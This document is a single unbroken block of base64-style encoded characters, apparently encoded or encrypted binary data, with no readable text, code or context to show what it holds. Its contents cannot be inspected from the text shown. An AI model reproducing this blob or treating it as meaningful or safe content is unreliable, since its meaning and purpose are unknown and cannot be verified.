6oji7f3PpjLw/HGL0pYrSYb+lv8VLSHxY9L1WgcOzaqATnD+ya6Tek88pnG3X3yPtYu9yl3xgl/Sc1cq32zQEAH2i2QoL5DQZN/Z2N0bwV/Uq7hMs/CMkhHPTzYypmHKi64ntY5meqFpvcrsjjA9xZCAsG0hy/jdVodTVS5z0BvKQ5/w+IlhnvO4ozibYjtl4H55HTSGfJ6nnu2bkaNAxT7tWjZCNnuWbera0ACI+/2S5rhsAusLRiWLNUhbU7EAbih5GGly2iQbH7FcQkkwxvpyBVt6C4r93YY1qRyeIEzH9ugcKC2qZHPfj1Vym2ymwWFSCRkK5HbzGzG2eUlVlCkrXjy9gWtza47jtIivg3lZyrs9MchQ88gPlEnLlbZGeBBj0WGR2BtD1Evj0/SAWaPGLac/prnv5+H2p69AJBihYj3CKncmgG9Z/sFHLRdCkCRMZyUkd+hj2H76DFDIgekkIXI3JT/sV1D6ZZDc/3tKyyDr4u/DOqMfrsnQYRsQdwrk7tLV5PBEOk+i17cPbOoABMgpABOJhYH9ckeSNbK3H/E/5JJxJr4g4yVuGHcntXzHlR5tAJdkE2h91trVyS324cmbZ/plQWF4vqKLWRHvntjnZVmRPAwceCOWDweBCb2hW8GTeJLajrNroq/97+RUQnE9Sb2abjT42eazrcccTglmZOamAhLERidHwD76Ud7vEHujS5x43sjN5YVvdjTuvLuZ36S7ot9gHDt8S9Q0dV8pPH52AEui7PnBM/PMQQHcJKn0CjrmwafnIFqDzXI5zggoOD1CB3mkIiKL+pq2BdlzlSNyLXwT57ygbwbVoynxtAG2AxNZ3Quhn+TWkhPD/7tAm+uUITO5M+2BYE6VJepyUzovEYR9a4+VpmLrkAUCvw/delpm34Nlhnx17AWPd0HG/UasFwK4etr0uALJy0ro94wCwKvW21vf1foXbI32oYp0oEL/QVqQz2gaL5XUyOXgrmlcTIIQIE3ZRmmkwBuOiA5kGUKEqhmHGrX9M/EG6PQ4ydv1/i6ps1vJ5oDPHfQ+AtUPvqZ1wNN0BTWmR+/0jFNhJdCK0rxoKykhgoyErr2mYwIdjfsLBc2g/9x8B7TsdRy4tSjoUAL0r4TXfScaq8NFK+kPg+zwh/y4XjoG7aPJTROO+ZhWHgzRt8ieLMu3YvuP5BfqMIH7NKaVyOhjGIRxQos9R8ebGV9u7TxJEsKd3b/NxxvaGb9eZxDqUn7JusEkNt3NYn7ZcTtiML7R1BBiwNxYGsRik5nLW2mAKCgM8maV61eV7kUwiVymbTkLPmLVBShq5GEiLGmPxxwkLAcVEjQIvS0hNeVSU/bsCvJlj8GG81YjPQDDPpa+AQvpWxsn5TvCVCUXeA7L7ST+nR+g7RoXEjxGZbWbhwbUsRk/+B6iutCZNU8746yxcZg8j+PbJujyTuzNiZfe2qa4XOsYbMgmLwhUwhzaurLhB3NSU8BfOF8N6jtbMC9xwTxGOUUY/jR/JCw2+depszWNg3NkrscEtPZjN7zDf+8HsHIFt9TimsGhu/ERe44xd3P60uZkYEzT+IhYlVT3Q1MDuXR0WX1r+GSup2gxnzLFs1Xc8xAYyZR9AbA+vCeqvBUPvwfJ1qffZQ6eLFEmAMC0tMc/87R6V0ilE1WXnl5QGE39FQ5Sck5GI9yxmJ+yQ4IMd/EaE++l5aAXHJY9JiLolFUPxw+4OaPpXYIkOEIJgOLz/dcvrkaYbLPQyTGbHNYYjsIxypUuSLgExdEgWkykDsNg3KL8gt3iGlkGoAUePPcZjb715bROVNnRoOSp4hCajctHUaoPeG+pC/2bv0b52M0uhL+U19Hy9y7axWVMt6dhKeq+VOH3ri202rK5p4YvEhkGEJ+ODCaPMtkaC8vNryBJJx2gnHlrafVrPZvLksOExdI69Nb8xUZDlfbd0YUDlRsQ+IOy7PCQUS2KW+PDzdsJRRRIwP6M6kBpHWrOjhCjf0SepstImuyVSged64G3G8a3o/vyiD/tg4zfkB6QNonu1QYqdYsPcu/DrJytONTqLpMv+/7CJ+uCQmOloAgeW8pGwG3CxdmISNETKKsI+uVJm7qhj6JasEmFz7hhG9Ra3Isj8UHrp49nCyHQ8TMjVxU+RTYNoq0R0ujexMY1Ny4gJ4BLN/a68KvGzWCrtlk3BH787fH9i8NARd6mrugzD0GHQ7eDqzleL1qUFie+yHgiXnkOZCSmQ9K/jsl3YrA9O4vNmBoQW/nvCR9otfdex2gouP4eBl6HyCW5Pyzaf0IgHFSM50B83lklVMpAHnwHALTePVNI5aL7qqET2e0yQ7fCrK6AYEF+1/qrfim2AYz9rg9Y4RCXznZNjAMZv8ChvqobHskWQI2dGHseyVTwa/hRMzxhh1uhqpQYdSK7g7tgDTllu6sJMQdh/UF7i+zmJrES6bNnzaeGtuGJ1a6XMveOGuGvuvA8ucwNjC4Gv8SHb4Riw69A38qdHSmS47ZtJ6ER+HkdRBtkmvG+HDx+dUlfHgr247zR8AW9bWKx0Anq/SbGU72djyJ6dvqd48Bo7htBS+lEk28Ew67eReDWY+sPoW7T153DnZXRzu5hDMnF8i2PO4xPo8QZt79oX+UuZdxHVFRjstzqFaQUZmWpy2FLaYqEYzB+iO0pg+Z97IOzZlnYmq6n5xJr/7duWM7Zzuhl+Vdjb1tnhv6g+FHF34hTWD6kJxoI2MybsHuqCiJ6bFi5smjEsLJZCexMsazCXSuItj4z9tqRmsjP1ptlIiqaQ2G05nnIu9h/Sk0e0K5BzJd63oEVNpOzYIDhSlu9ySHXI2PODA+h/O0AQ31XbmlkMj9l72vBsNlfPQGu/D1yO6vJRLk4h8kVqVgFktr+zcMSXerX/nXpKjQGa3+oKNDNgkt+B2AQ3MQnVOtSa8MVQKgAhkLVvdswGzXQBvAeAfGwf+Nj6q+aUGzVBvL+8BE3SCyb+xOrmmgoUIvF0OugIDsFN7EGdklMayBjSIzBW5zj8xV1Tuv7AoeulnXJTdxEmwqMDlhnzm4EQWKyGJJQfRA4cY5XvQbHy9fXIjoXu25UFfjZpnxA0OYnXxi3TDO38CLxPdkzPGVOxQ1lkJKepCwHRtTwuxoVGy8cHAwa+cI6YJZVx6QGvefdFTCKRyQQdHkjJ2wZaVYyePx+7MiV8EWZlhxe7NakvISjpOoCHh/QQ6UR2QS2sL4oKTwjl0I6TLAt4xHbAAN6llVdetpBJDz6Kv3RuXtEMo3rRiVjkw5/QKP2Rpk6BcI97KUOSNA3XnFjkS3m7G7/ynGs+WWt66W2K80sZZJJNXo0igqponcZi6afitlOPq7F5lcKwK7GmbftYlXnHLYoZmCiDmiDjYS/rCC4Baa7oTPRloTlOltTklfqocOjM1Ij2w2dHnsnHIYkt5QylYiCdYlw8MeITLhuFiI9BX1xFTZ6u2E9ZGezmK9bRZPCndNpzCDfTql2JyahqW+Mg3cNKt/oguH/8q1F/pIXsz0ZE4ZCLsJFbu8ZeUZ7LysQSFzPikEomOghyaQHG3Ji3xiBo2uVN3lSmoQtpUtZpzbvQabilkXHk0bNfSBhFT7m4UX4oXzj/r94BkhRJx1Gnm5B89a0v2H5WEyUBb3ZGAJ4bdEo+53NcwBJ0Mqb1yhVN1l3LYCbAk6B9lpEIsV8NaPqhYDBRshu1cD80FgGr2DWTReQDYZmgsm6nGIoN6iWAzbvsLL15DQh4ovb6bFF9mhWlAhTacBSijoiNwrfwfR+UzycOA3d59l6shgGhEOD57ectlLG/RpNL22U4iTNVfM1rS9xZJyCMkoOxJZ/e46AgHX+VY1hpEKAw0hJJBIbgydJtpefeli+1oF2C9UTIyKDY47KqUsW89Fc5WRth6jsQaBp8yFhBkpdjtgzTZlRkoLYu1fP5o4tpr6hFEQgv5LkugP6zq9jE5G6Qu/Ms+d7WaQB4pBjZkmdiGHzz1ICyGBctZUFusDMEqfMLDPK18eK0/B7GVxcaZpkOI/wC+0jN0Qip+IOD1qDtRPHaB3g0Inr0GTlQwabnBZNwUmIUrLLZkK3/glg62lPVY2qD+T/H/FvqwMNmzEe9QN+dcobVH6nUYrXVl2aFs1U+WmJBhS7xykNS3ssPDNp51+0VWsPcbsudUkk1LXbula2CAJREhCTh2hzor0n3xF0xdkquBMaqLbr+yIdoXN6gm2m8cgz2TOAqCrXi8GjKAHs8aZpS1M+MgANnyBahvlKnKDnRrcHZtIsCQ6QKloDFkGbGqddPaVysKpkPtvy3Kg8aOtzjV8VZ/pMMrQpqQqYTLjb+AV1jHrJTdVkICQGe0shNiJY4gFlnCmHvEGub18ZYLiwYVLFZvIIsvwjlj41qxVGkFokrzu40xjZxf98K1JXjck9MbvGiIRsZaSx+vDAtj+QNN2dHdTrgFC2j95oGyH8Xd06NdU4EMxxO825uwY3EiBw3ADO7G0NLTBKKcWhNf28ZWzXAN1r3ZObPVHfer4/NOf399ql1xC1ZNAYyvMPPrwoKXkXY0WEfvPSFvGee5ZW1UQ8Xtflpsh52zFgjYtdQEQa1oE+mXSrhBKUjr2/dFLYYfzX4SFrG7UCKE8H930rQ7/R0pUtaPUNb7utUkEGNFrF03wNs2IbC5UCWCWmZnARjiljHnp8TzQHyt2LMYHHx/kglFchjRO1ac8BHfpFFhNMPvEmEQWFMb2encUcKUAKLUEsPe0jRRtQhHg0BPABIbNj5BQ1G7kV8uXgZ0oXl++f2v9PP+AufyMgh5MRsUi0gDNURvMucA4THg6AglmyFVO7bdGFp2KeXN2b37fJwTIfUln1KVaJ2ESq1gGXo4oUVgq8zs1TeHf6xXOU3FjC+DCitO7bSgNYvAZfa7rYHJ36lZgV4yWqMq+ezrGSEnIOCeLmTydkzAI+TBQA0gydcnU8nWlK1riD984tRcGeJCb78YNzVDhB19YjJIJN1CHJDyRrQZaOPXrCqf6N64Xpgt7JfVxqiTFoHcoG2XjbNOF6X+k5iOloUwMs1/yTl5PWXk5jIufy1JVa8wJ8fp1qQngP+KMj4be3m7BKnBTVD0ia1Gf7XA3pYHUTe4bgpcNKs6nZMb3MG9U8cUhMLr+F+kuDps1ptPQnYyAznnIoPQlxO0IQeSpeYlXIVmn9Ba6p2Ahd+vN29quBgh5Ubr5c9qkdhwZxTw468M/Gnhoh03aUOi27Tz0CHMm7A85FGOvHTj8tmm1PXpI18dIiJBWE9AokvfrVfnMrVCWpwd2cRP3bTaGGq/5JZioh4+pAHKOYWx7ceac45lx6hULBGJocid9lsUWVRP+PFzqDZ9H0+puVk+voe6I4p2x9Qz9dzDSS7GPY9ccKHudM76eBGEKGmYUPemxiah2UazUz3EivpcJYD7nD9eIIeltQk/fsme5jhmi7KRwZc2lvuaEXXkOVm+8LM8RDUQHGtogwf+nZQ7RubvfbRS1XYSCZHYKsOG+1xV2wwQtYJNrJko/kHm6PWzL4a/WGeHCcbfTFk7AqKSBV6cG0T5VcUWmIinD7UvOrZTm5NYpBtIarZ6sQtiI+kI+SCe3Wzghn2ZHbmtQz5G3iC0nNC81msbJixBF2UmAX+U6xcv/AwvP5REtClRZnD/Lwo7Q0MQ0Rslo+ho9hyAzFMz/EpvZfO1fFHGU6fA7Gx47jqQMc7jbsEj1w3uUm9GXHOBb5QKBsTPWCFH/4n/nU5Vo+QrwcW6NLHpa2j3AQy3n4CYkWakKLcnzLiwx0bKniSbG8Ymd29shKqM6zgFTUP/spD4rgahJWp7qCR5qS6X4vImGf0hqwLzLoWqOAjfIy2xiy82vvyKtzaGPLMeLUSMuGWkRY9dG+DjEOegwlVOt4krT/Fzm14f0bkjdZ/y8VMnbYMbkETT/663UNsVTSlhxKVMxdA0BbL/1nnJ6aS150wHiohcVfatnGjyArhWvO6+FjoHhdwTyZvRBvbwqZT2E1Fp6q6zSd18JbitV+7sGDemzo9hZWp20ghECwgsbtA/wNFVHWrhACmxcCJ6urI24y9MIQXhlGG/VaT8QM07UDgh3RbO/vPTGBM1wAUEnRArUVFZSUaXLwv2eWcRUx0IO6v2k4Fx0L8ERYjZ4QrWaCSwvG09c4GRpkCdIeQbuRMoK+LjgROUVm+QaMpC93v9AymuCk5s9F1flaZ4i8F83+Idx1Zo8IV3sQEyqgwHuECxvyFxOhGILsfvLjFDvOqWiHjVDxM4UphFIJDcauvOvacKPa+m7v2+oR66BgqsG/jmhurvTquNGml0/cpDJtNWCBHvh2Le4PaZsHKj+l1IKopJ8wqHforzlabQ6jOYOEH6W6bdGbGmDjLVEqhLSL6adn0DB9ps0SuZ25Km1r3rxDxLv0Unp4NyudzUxqboQWV1PXR9JBsplTXX8TLL8nQ0Etukp4TAsv2A6LNpj877VbK8r2O2Fu28mSzaWdDE9OJCgBTxwIiIIRikPH8MF/yJKnWSfYQ+pXcgIrjPk3tdyiVcfUqFIoAD+urv0El6PqlcoTOKFELQRj9BJBl+Byueu4bfOGsDlxiMCVLwBfly58GOg23A8A0MdyQ+uSJBXLw3n1XUwEL9R7S/h9pcsDSq0g2lLaorep4fYv2j+Hqn+pQY2eo7pisWE03kuwZe/oM1CBVdjIEMcGV4k0wChgzNsf4QMB1fZ7RoQ8BmRUixBhOMPHlp1WvH9Oxm2g1FquE+4YOde2oo8qY8vmrDT97Kltmxiu0zqV571Ov0iMPoMvbbbvJcrFu+gS+o8TiobaPXKljYEhuusRbCzf/MqEoUzzG4ZhnA9ZpKYr8UkydtdZuPB/inCb4W+VmqMs01JrCicY6p6vs6OPWEmvMJI8AUyFJPcmzYQMu+cJWehlSp8KbokwO50Ybl7Ryfynv03WeuTT4HmCLlietwWArZRtObLN0h4dRrin11HAX2FX27+nCCn2jx3dwqOPUoUR8ff8gZ+wqBkiyGwI3LyyubTsNdYHzTE2OqL9e3xkTwj+jl2Am+ZlglU5xfyUlf06sFqHUNWYH0spVIMNgpB1/5mANwSwPaBO1YOTyIgS+kwr+kZ4nEFlPy5QROqWqOSJAo/WUFbN2F8z/ES9TzzRt4QilDYhPulZAMM+wpLpnb1gR8RIVEFtn9n/jtp/mBTjCnvSi+6IgHMwKkSVPkzZ7IpQhUabauNjvKoq0Dmd33J0cbsPa90w6w0/Ib1fvd118hs7RroWdsSHzP8GG/lGKK2ee1QO7ov01M8Se5wZ0p/cnsATbn591NYu9FmXqkzhRiSZVNOffpY9yJ7gCkljeZ5vi4AB3h9TGm8Iqn3WSfwCHBGySUxhk0BZBCJg4eDGvnK8OMFyxCqj3BK9+xEhCSJd03lfcjayH7utkrBd86MGraTBqN0W/uoO+HDFzg1ViE2FyAQUmMy/9I5+HopEiRbmhTvdu1l8TmVYJ7D0ONBLuiTHvS/+amA2AWs2h4PD2ORf3QGZ/xw3WRNm+EfqdYneXDE4CTWWDnagc9SNPcRlG5ytEqzWUIXRSSDlmp5ahRBTyEmte4j8+PxV6uBkZ1/eJyLQRDMnnxdv7KCS93H1oiQbL7oCsaq+eeU79+3KMWVhAwNnbl/N6XiB4Ep2iBchvJhHzNCbW7MWl1OeIdsrAHjRY946fopoTdTKM7uvzrlz3CLfWaA+1qyJ0irMyayIN4d2rMA3Odfs7TO5QINBBkAnN6fw614ejImB7uoTJKorUgKjIl/MjjH1GcIWCWCqB/FBxYeyupJVrVqcm7H6AMDnM53yTk4iRPONVKyfo9aO8aUmexDd1V3i76chPWfdwcl9KxX2kZ8MUOM0uES0xIa1OHRjtZnVWmpijYsOvsMYaQSZtjfd67Hlw6FPKKfwrTN5oAsBXUe4GzNXqaFVW4D72oQIRjpqR7byRRYsEqfMUhw/W3Lt73mlC1yN2c6j8XYjXSCCQZj8C00vYfFH12Tf6IBP/h8wpM6dDJWA+ZncIM7VSTHQg0xwSFqlHXn1A+BmibpuxuyDe+uKixzw+9DAOH1sRUgbQNHGsNIgzdw1EOi7Yk5HZv6ndhkvTOBi77ehMaSPoyxnV3buI1xwrPHn07+bCJhyAsOesp/KXVQOyXig3xuDJuRsTfpt1fK17aYChFteL54CFcxlySN46HiEmuPF1a74Hgpcr69D4Aw8zfQZ0ZBo49I0vwEF4Srj2HFtFIFhtqW0sfxFvzkzp8KljCnqG10V8q0L4NPdYnBS7nd/N70JTfAfd8gg6n/rGw/Iaw6VQy2egjARiulfy4ud1YbXgrfMZBF+Qil2zIDHPHc8Ju9DrQWiAQDV62WWxPu0Jc47/BjraFovHAKuH8KsxhTW2PsxI9Aef1dOCH2Ofx1yn+yvhNm2Fsi1VNj9vgEhS/Gc3YrmgBmSpjR+BZ9fFKtgrTFK9tUHnhPPZdOrWc1Yn81Oe+qFieFqpxLkEFr8SCwjzms7X5ny0TaDBRfEICNM8oV2skTQTcJP+RlCHUedaBP5dkxq9GojWCCflsB7YI6zY/V1o5PKb11E4kpmBc9h0q2T93Ze24BBNywEJriSvWJFRB/6G+f7z25knKG5g/aW5XqiBIT7GMB8Bre9RvVXVKylAsDSRqZ9oOMlI5Pn8snJQdjy7qmT9wFiakLItFjezXo50ACo01POC0EeV6LWeuoK3ammE6I3i9wHU661di9QL+YU98ezEZcACp9lLk4UE5ZDrIyyEC6btu+ZVRifLgX8HwjVyOAdPUj8XkhD3/qGgq/v2MeOhhhjHKsbNENpzaCnGI90gO7Zwlhd7g8h/8WiYy+xClO0DAd5p+LU8tWzQDlY7p9FTQ2V0jeJ4eD9HKZBu4rr99uZ8I0MQAZdmjOv0Diew5/uQW0Smyx0GfzD3lM2f3O3pA1/FqvZPNw3vx1bbl/HJc70NqNdSDAv0isZ0OuOy+mRskvUGczgNMjEhakfZsk7GUsQz7NMmUoRPRqlaqejLufexVwkG2futWJNLvKa7QJUjcrCpC61u8mum43WO1gABnUeby6jWdYEB1eSdIjJOlSVR6EuqteaiYd4KYQdVcuuaaJ1DaAc7QQydn6JN7Mx4w7wWW5A3nUHkyWPt7DX41bjpoxX2uttGR16PWh5G5xq0nrcQ5uqXuMQ2zootwIDWtyut0ciIP80/s04NLIdtUWd/xufpoua3mzTR+YmNOYIvWtl2TGJSoEP0rjUlpMkputB1vKZ/UiV57Epg/hoYl42sVseJlFA6zkIFFi4DJUXpJrKogUSHwZryQnKKHQd7hE1tyUpcd/jZHsyEjuPf46X6EUg1JNWN4CCXVZ8H/WwSPe6emjaMcaTtc1T76jouJCN6aM/oBlcPfr6CqhaeyWko+PDHiocm2wHcceuRV3uR9m1X8o+aN4jsoTCf9Y3YROjYcD/TNMiodGaeK9CSJqnZx+SdcwFqFeh+w3H6gNx5fNev82aFgIQGP2RU66rdKwLWLQsBbB3HVCGZpAwlmnfR5DqRny3tx4RWvkcIx/cTbnjs0WkgnVSGu6soOs4ZjypivWaN4tfXx93NGtjiKBXfpmB4qTtm3KOUIeAEgTWYeBlFmT+0gyYEcP0IIeaVLUlgkQZOtZ0l9jn2Yc6AG7OCVbPcvXCBPQk0DkCtBmi+PahpU61V+Q8hMD+HuVkUwe8wjuVIcHENoTsex9XmXUlYj3ZaOY7+V4x90RFgwKZG0zQZLwcMMGHi5nag7OvGcz79JEWm12+C5wcTHMrdDFfUpiUQMDanBzd3dtkQtdKK+aj23Coffa/dJgkl+fYNsNP97cAeF34vAXDlxq5BweayrkZvRMz78z9qggrH9NhYXJUhbl9In3eC5qEVn4UlqqNR6fl0veXExkY69GXUdByreCh2kIKHu1seNJ2F4k48jyjjj1J5KKwCHHqF0ovxZywk5662h5WlFpn4ObP8kCYoA6J4/TLk5AuLfcoWa5gaiuqYRQo7S9ysAFb1rACSHzW4OAi+YyQY4IwxPElcm5rZQg1iprxXKtl79u2oKTSVbsWURtOyZnJwXe5X2K29sm4UIUxjtdGUHmiY/uvh+d3jiAIeFfE7P1BdkWtCe7LbKlWi48+RtaFz92Pye7vTuxkrP0baF/8vzs8X6w8MfEL4+GXQYKsfw729ROc9M4HrT8fstLVpJ8tw9Ov6PsEEjlFhCrTQtaUJlVblvaVKkHHILcYAKn61IXgSG5IVw4bhn5K7+fCaoQVxQz/Ur6wvCW4i6GB1AhNRuvjErBwJr5v2FYD48xPHWQFpcQv/zAWXj+KqdW5OzRcr4ION+UpbasCYpSscl4Ni/N0lWmu/Usp9Ly8hs43ZUZhWllFHe4JYCh0bSAUj/S+YJGscoUY0Ciw11nIuoDYFbqu4q7Dix2TSTKmAgU2ifBVLbu6Wgwcax070Mot9GhUawLZQr+K+OAg8k2nD7ArEvo8DSGEcmQtLc2Em5bCadgdn26CcQNvRFR/hAGU9VdmvytAT+CVE2n+aSY6K4BQX+WJEnGyHavjZLGGVdMd1HKmrwglLexmHggVXgCz0+BgJ+wstdsW9fSefdJnqON6UXPY+rCmFPeiuyLGDTHTBveqlr09G7RFUeU49LeaVaFjbjDtvOZGHbZq/U7HMHfRhkz/ytgLv5mTjOfdRkf4PX6K8xKZaPsVpVPT1kyz9j+ORGLI9lSjir3AxhbExrhSscqk0HxzcEPxmM5y+2kIRVoQ864lg+adGgTHlp+7KrdxQAy7GF0oD3ki3DzOgujQxaINIgV+hywR6Be+p3WJogc7pCwxh7LmWxehd4HQElna/ofVJH1Hi2uocwVD+WrLyHm9JYtZA85HShLrErFlLtj2XgVpnktjS4TfixtOwt9q8tXxtWYpJt/k2oCoa3vXQLF8CxkJNQuvn71jTJsSmMZA0eQhHG1kHyoD3KBk3uQTAXiTuTPTdXZ39Q5tN9zcGGsRgen8p5qE3O4gBCPFZIMZdonepHVZD1hTpUobFGqytjLkkIoUoF8IpPZUnBaxwqPmuB7l4H/UEJuI8fB46nIZ+58IdygqBTt2HoS7tzd6E0yGfdYUmig56Ta/DrcOALWe4dQpGBeTOJaJH8MSTiYorABGr1SvstT8gANyIo7W5j9h0P7UPxhu2uvC21Kr+uDTr2QZ4oSC7Gjee8rDLO2Z/29mlq0wYk6dHqRQjXeiSTfU9hgn/m0hxrx12aFvsRdX0MxffxF9DC5YB5eCHv2CFLY/tvxNTi2hWq8HLnTDBFSiGd/xI+fvIlqkjVJfFLMPHHfDhvRPTauOP5oWiTC6CcUkan+tCr4Y/VALWSwc7PG1IzIZ6S8gbL8p3h4Po/rEGe74HqnaOoXRNvAE5gFw2zdYPhRY1QjPlNomohQtYzWdqr7BLRvAN3ols3pcu0sqsI05P3ERD55+7rGUkLrfC739cyyNGXaXttW8VF5vLHUXVD4rOrM4IGZ1ddnaiFX0YH4fHVUvCB8ZkAk2nGn41oqDab8FFKUrVuKxwgslIQwoEg6HW4sE1wQaQseqbfuQLt6Vq8Hnn5h45ucZvrVEmxlv23lIb45wfDYoYUOa9EA9dbcj4vnUv3d5WgKMjJlzvV5XoRL0MSTlYEFo0eq459IcU3WY31ANZL4vtCcFkwdTU/UN9TISz6pC2PyuPx/rOkJR73jTplnHP4o/hJKcdOJDOOQCUttYeBPZN8ZQYQ1YI1VT2NCfoseKzJajIJScLELRuStQ5bT1jRV+7niYjogJZmEBEMI95AcNevC/yKUGjn/BF3QkjC57HrpiRwwO0szYhQAdylQ1v6TmeloP9eGAU3IUX9S6nA5V6PBhX96VijKZ58F9mPqGJzdNrNskTGzYhwILNwlAAABTWf/zGWO2h0Z3KLMRfZYFhqajoY6ShZvM6dLr/FOxWS49X+ZfH7dD/omdUhqsQNl5RGwDzhte1TYIfWkhMc/R3UYvxIEVgfVW8X8JnxcHly8e9ya3C8BTE44XOWbVhkM+BNS3K3yEMr6u666Ab4sBSewF4e0EMEf0eWvu+LnkJ3zM12fT4FUkvwH8W5g1I621iH9bsJQXeMseo2kA1lZqM+ZnsMh6afqAdNH8xKz568Y1geYsC4EKf/1i4P3l9+9kI2c8Qxm8P80HKbrCYwtnoxEW1gI6Kfg+xGiSqiBlGLPi7Lb4FbvroisxRBcvFkaKVaNYruA/X43cRBXd5AgDNSh1+VnplDfyq70xYiMJazae4zd8BEREGSCviKXcfcJRXo9X/BdwSswEr80KJm/wTQXcRQwd9ebEFAdWge0X4xOf8L3i9n3Z7ftMgC8zTApnMLSTB492ylBC3BU1eWvk8tHxHVEuZpKN/H9tPy+euXlaTg524YvcFXzf0/2Vt65ltjKLeBZL3wYellv1IbUKFUCkg4NuFnjkAEWjSrmoKJFBun7Ba6umjHxvRujKB3cUaplMzVotvV3gKwS/ektZr3Fo2ziwZ+kpXHjusDyqw+JTGKbaiAVRXefgdfnHCgk6ngHHW9VUj2OnUPxcynFZgAEAYP8ZKyoBQeJ+bPz+rT9MIe77bHkk0LNNYxB9BZZEGCRWf0GuGT65FWh3DwlkOim06WqvvYSNUsp9hfpVv3m8MRUwv/hvxI3pmDmIjQt7M2wml/nlyuuJek+TVlQcCehtnyhbIxl1vgbrI8JRlsvDFlnYzIKRhkuL6POs4XLrb5AoHKTeLAjwFo5X7769YQPrnWDrhUR4dgdC+M0iHO2ZF4YkoKd+A/wGbqliOk3WHbJXzNknD7YdCv+OMkO8qPppeJTErXrrBPWxJBmH/aYkA2SirrNBsmKNQcUR6GiPt9qVzoz1UmxLpZdOwo/WKovtNChG0mcT2fgsCDoq4GtEe9lPz20C5nKAh/h1rZwpTghjsG71jGYgOpQkpqUOhECy02b/czvt9wHmUErOwhpWjN4A9wsYJe+E3v7h8jr3X23ObIkX5KqAK/ZD1G0jHLnkMbCNyY7awpa697wWiM5C2G+iMorhHEcrlU7YmjxfvgTmYHy0gPedQPC5p3oXtl2yDzf4jmpNfEEmdukWK1N7R4DhmjeInRv+dZistP3fLOByNvBv4GYMmWkkL8Tw8w7I5+Euw/Ncx31QDeB3uPvvtp58XS4LKAXYZW0LoR2Va58n2S8GhK+8x6/xOwE4fypxRF4QgMNtpTXPuy1NZBMKNNjmqJOOzBb5xLP9H27LmkZXOkPvsVTv1etyrOh7kQ/MXbjRg5rWdfQ5YGhgz5pz2CQE9PF0BI4q/XlUauPFhNPIDyh29KYBGRFFBa+pP0R+kIGatHPGuOfVk2QWx+iiA/e1b0Bnfr5L6gdCmm8PcECe8aHCqCtIw9Mq82kcp5YR1Rhy/SvVdSbwClkijKzYa7O2aHyNDx8+xmLd4WCQzuusPZiqwJvrzTkebAs8vWD2qKGyuqncn1iJWf9c4fQonkGUldQ07/npVTr6yfQyJXQAvO5MhdQ+1vFE3EtQtcMiNy9QisQiipPwYD0YkCg6KYEC88ARWXNOTOPuW79rchaz4Vg/kXJg/S93fFI+rsP7Gp6bTO6wy8pi1cBwZc3oCr3LELan0t2NLoktPV1sjX3jBC9P/yXkzaPw3L8TF6lRsuOrnEwMbgTHCo8quSpIKVYIncTT2YcZw0cA5cNv+a29BwHZ/kCrVIRhS7zKBX6sFKdsbztbwCM7vZYIrqE3isPh0XS1itXmyLwNzCW4rZwasMyVG1We74siri4MZNrIx0/3H3bH90TpuyzSQcevPpHDhTFSaP/uT5NeBjEphwOTmxVtGJ3CaHKR6j/kG4LNccNR1jNC6uZAnpzA20Rb4KIa1StLArXuDwv3BadVpDigMNypwYqjscER1hdoQj+BC2+EZyMKg1nO+5PVBuPGmehKm0FxZaQ3vHsSL81WVCHjjE7+R1U8AnT2I0lHpthANeSDvLE0HAUv7a/mNaUe8PmhdCXOUfvwnr+qhEoILKlynLEG5y+cBSP/pmI6t2X/E0H/a1U2yZKsUMlCs6xBjnp0llIXdwjtIh5uYjivwxsfXvEXKio7WmGdUp/OBDqpYSThyo0BWg6dTqd29A/Mn6aqUZhfwfzDP9WXfuohGxph0R0QtvAgobOI8SizGWQwwttK9kUIAEciGEqLsKzYNKx8R0ZE0qCob/5W0TfZxmcJfaAvyyKh3aAO1LgEoLrQIfAP1sMQWwhKYaBPoFudFCQ2hKqxM4kXnAT7HQ20TFfVIgh2iVUwMAUGtR8dwdCHWiU6gTX4d2EFVNALfvlytJyQU3DtzrXjd2jJL7YaG47Ux1wPG7J8O2Fr2Ycmwv9p+7OtwMDSPlU0N6Xw92WtGAnkSDRHX2kk0Nw9BsjlVsGTb8eOZE9JPSkaFGqCUR26whWMCWJEbksrn43/SkphSSLdZzE/ts0R++85Ex4R46tAFx2pvysc+JMzez412B1LZC+TFCzXdS+YWEyxb+9ovS0xDSopup6b2iRffG3W87Wco5UxjyN9RIjT3rVmX9bGMzyjaxpLadJ+B3aV+p8cxz2qKCYb8VqKmUUrTtoztjOTULCYtOPJGPo6t1fvco7KI21BHYQXy+8k52Gz4bmmuxOpo8xPoiJUW+2wQAPY4S6b+T9y/fV+VF45o8x2GZxOFWCdnWFR/9bb6i2x/n9CNPpPBXMbaVW3L8PA5oq4WKr4s9uRs0+hpOtexQHKmQ02Lt8wSDvGFiMyZfLmdnTLWb25tX0RuAAqC6bJyvHpdgv9Ssccs7QsnGc2Q7oaWxhzIQiqekV93iqzEXGtwVew7rfS+iTzhwVNOJBhMG4nmcmsxzAOMlKFkaJcG5E2pCJJ77rm4FNOz5T4NWYGxR+PZqO2OqV5CcUilqCLg5uVt3hpcU3W7Ttp6/0MixChT1YxwBp+vyDyYVuHR41o7OcRNECTJ1nlDiCvKdIrfE5dNhhm4AGhycbYkZnCqXHLQlB7nb66Xc0mRRcEWEawx3Dn7tFh49soXsr/5zF2IhCb9Ut+Es3kEqoHRBqd6lB20tDvzmRtP4B4KLqEpBSnteZ32o6eLdRKnJAf+bmoiu7YxFdUsrzmLUyL7GrSIx1n77ONRUL2wKjBu+WbFLYPrTbo55arHwSF6SpjJD3Rf3qUSpJp7IvscFM//QnwCwKGkuxtmzzsOumdSRhEH4YUdnajH6qVGnqTHw4TNeAG7+/1HaDnlq+Gd9QlKTN7jABPPTJjNDsD3QHFxKBzAWmc4pGnaOA0bGHF77I+5SZNab9gTuyNiBBeqRNBtDkRHZ/betlc1rlhRXPrIY/r2py+xkVxI3DknWkm30DqiYo7/4RlDkkbKQKXyFnH8KH9hnhDyu66B+g8DZ6UWzk8askZu0gSxiX1p43rfQn3kpUS581sbsTXLfCRhFG6QMHD4IhuUwt5FcGH5zye46dpOSQKpcHl7mqNs4LR0pEb7MrsfPIprn7yNb8XuaAUe0rbrosjsd1NAjtFr6RprluByJrmmtHmcUSblFZdh73n40m+5riLIylVw+SkUKgLA/58V1cru9alm5CT1mYg+jpg78xIDLRKupBxfa8MP6Li3A+s6AJaxCcKP4GiZ78HYIXl7vXLLspNSHQTwWvPlDmr6ejD4pmUmao5qvkv8HgCgpsL/Hdjp/gTojjbV02wf8QUfGOZ8tDauR4aKx+zE+HMcoomjOZXcCM3xBWzp/bK9Fyu